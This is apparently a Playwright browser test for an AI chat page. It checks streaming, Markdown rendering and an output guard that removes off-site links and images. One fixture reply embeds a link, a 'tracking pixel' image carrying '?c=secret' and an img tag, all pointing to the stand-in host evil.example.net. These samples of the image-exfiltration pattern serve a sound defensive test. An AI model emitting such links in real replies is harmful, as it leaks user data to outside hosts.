"""The chat page with a real model provider: Daphne talks to the scripted fake OpenAI
server over HTTP. The reply streams; Markdown renders; the output guard strips
off-site links and images before they reach the page."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from playwright.sync_api import expect

from apps.chat.models import Message
from tests.browser.people import record_partials
from tests.fake_openai import FakeOpenAI, text

# Longer than the output guard's hold-back window (96 characters), so the page sees
# it arrive in several growing pieces rather than all at once at the end.
LONG_REPLY = (
    "Thanks for reaching out to Sierra Outfitters. Our return window is 30 days from "
    "delivery for unused items in their original packaging. Once the item reaches our "
    "warehouse, the refund goes back to the original payment method within five to "
    "seven business days. Is there anything else I can help you with today?"
)
EVIL = "evil.example.net"
MARKDOWN_REPLY = (
    "Here is how **returns** work:\n\n"
    "- Start the return within **30 days**\n"
    "- Pack the item in its original box\n"
    "- Drop it off at any carrier location\n\n"
    "Read [our returns guide](/help/returns/) for the details, "
    f"or see [this partner offer](https://{EVIL}/deal?ref=chat).\n\n"
    f"![tracking pixel](https://{EVIL}/pixel.png?c=secret) "
    f'<img src="https://{EVIL}/x.gif"> That is all.'
)


def test_with_a_real_provider_the_reply_streams_renders_markdown_and_drops_foreign_links(
    browser: Any, ai_server_url: str, fake_model: FakeOpenAI, artifacts: Path
):
    fake_model.script(
        text(LONG_REPLY, chunk_size=5, delay=0.03),
        text(MARKDOWN_REPLY, chunk_size=7, delay=0.01),
    )
    context = browser.new_context(viewport={"width": 420, "height": 900})
    page = context.new_page()
    page.goto(ai_server_url + "/")
    expect(page.locator(".disclosure")).to_contain_text("AI assistant")
    expect(page.locator(".badge-offline")).to_have_count(0)

    record_partials(page)
    page.fill("#input", "How do returns work?")
    page.keyboard.press("Enter")

    # the reply streams in growing pieces and ends with the model's whole text
    replies = page.locator(".row-assistant:not(.streaming) .bubble")
    expect(replies.first).to_have_text(LONG_REPLY, timeout=15_000)
    expect(page.locator("#working")).to_be_hidden()
    partials = [p for p in page.evaluate("window.partials") if p]
    assert len(set(partials)) >= 3, partials
    assert all(LONG_REPLY.startswith(p.rstrip()) for p in partials), partials
    assert min(len(p) for p in partials) < len(LONG_REPLY) // 2, partials
    expect(page.locator(".row-assistant.offline")).to_have_count(0)
    # the model got the customer's words
    assert "How do returns work?" in str(fake_model.requests[0]["messages"][-2]["content"])

    # a Markdown reply renders as HTML elements; foreign links and images never arrive
    page.fill("#input", "what are the steps?")
    page.keyboard.press("Enter")
    second = replies.nth(1)
    expect(second).to_contain_text("That is all.", timeout=15_000)
    expect(second.locator("strong")).to_have_text(["returns", "30 days"])
    expect(second.locator("li")).to_have_text(
        [
            "Start the return within 30 days",
            "Pack the item in its original box",
            "Drop it off at any carrier location",
        ]
    )
    expect(second.locator("a")).to_have_count(1)
    expect(second.locator('a[href="/help/returns/"]')).to_have_text("our returns guide")
    expect(second).to_contain_text("this partner offer [link removed]")
    assert page.locator(".log img").count() == 0
    html = page.locator("#log").inner_html()
    assert EVIL not in html, html
    assert "tracking pixel" not in html
    page.screenshot(path=str(artifacts / "openai-mode-markdown.png"), full_page=True)

    # the stored reply is the guarded text, too, and reloads the same
    stored = list(Message.objects.filter(role="assistant", kind="message").order_by("seq"))
    assert len(stored) == 2 and stored[0].text == LONG_REPLY
    assert EVIL not in stored[1].text and "/help/returns/" in stored[1].text
    page.reload()
    expect(replies.nth(1).locator('a[href="/help/returns/"]')).to_be_visible(timeout=10_000)
    assert EVIL not in page.locator("#log").inner_html()
    assert fake_model.remaining == 0 and len(fake_model.requests) == 2
    context.close()
